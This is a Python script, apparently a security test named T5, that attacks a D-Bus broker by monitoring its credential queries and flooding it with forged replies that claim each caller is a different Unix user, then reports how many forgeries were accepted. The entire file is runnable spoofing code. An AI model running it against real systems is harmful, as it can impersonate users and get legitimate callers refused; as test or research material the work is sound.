#!/usr/bin/python3
"""T5: forged answers to the broker's questions about its callers. Usage: forged_replies.py REPLIES

The attacker watches the bus as a monitor, so it knows the serial of the broker's last question and guesses the next ones.
Each forged answer says that the caller is another user. If one were believed, that caller would be refused.
"""
import sys

from jeepney.low_level import HeaderFields, MessageType

from portal import PRODUCER, Portal, report
from rawbus import DRIVER, RawBus

PER_VICTIM = 40
FORGED_CREDENTIALS = {"UnixUserID": ("u", 12345), "ProcessID": ("u", 1), "UnixGroupIDs": ("au", [12345])}


def start_monitor():
    monitor = RawBus()
    monitor.call("/org/freedesktop/DBus", "org.freedesktop.DBus.Monitoring", "BecomeMonitor", "asu",
                 [["type='method_call',member='GetConnectionCredentials'"], 0], destination=DRIVER)
    return monitor


def forge(attacker, broker, serials):
    for serial in serials:
        fields = {HeaderFields.reply_serial: serial, HeaderFields.destination: broker}
        attacker.send(attacker.encode(MessageType.method_return, fields, "a{sv}", [FORGED_CREDENTIALS])[1])


def main():
    victims = int(sys.argv[1]) // PER_VICTIM
    attacker, monitor = Portal(), start_monitor()
    broker = attacker.broker_unique_name()
    believed = unanswered = questions = next_serial = 0
    for _ in range(victims):
        victim = Portal()
        guesses = range(max(next_serial, 1), next_serial + PER_VICTIM // 2 + 1)
        forge(attacker, broker, guesses)
        serial = victim.start(PRODUCER, "RegisterProducer", "a{sv}", [{}])
        forge(attacker, broker, guesses)
        answer = victim.answer(serial)
        unanswered += answer is None
        believed += answer is not None and answer.error is not None
        victim.close()
        while monitor.pump(0):
            pass
        questions += len(monitor.calls)
        next_serial = max([call.serial + 1 for call in monitor.calls], default=next_serial)
        monitor.calls.clear()
    report(sent=victims * PER_VICTIM, answered=victims - unanswered, victims=victims, believed=believed, questions=questions)


if __name__ == "__main__":
    main()
